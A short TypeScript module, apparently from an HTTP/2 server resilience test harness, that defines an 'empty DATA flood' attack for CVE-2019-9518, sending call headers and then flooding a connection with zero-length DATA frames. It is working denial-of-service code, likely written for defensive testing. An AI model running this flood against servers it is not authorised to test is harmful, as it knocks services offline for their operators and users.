import { type Attack, callHeaders, repeated } from "./attack.js";
import { frame, TYPE } from "./frames.js";

/** Bodies of nothing: flow control does not count them (CVE-2019-9518). */
export const emptyDataFlood: Attack = {
  name: "empty DATA flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.write(callHeaders(1));
    await connection.flood(repeated(frame(TYPE.data, 0, 1, Buffer.alloc(0)), 200), 200);
  },
};
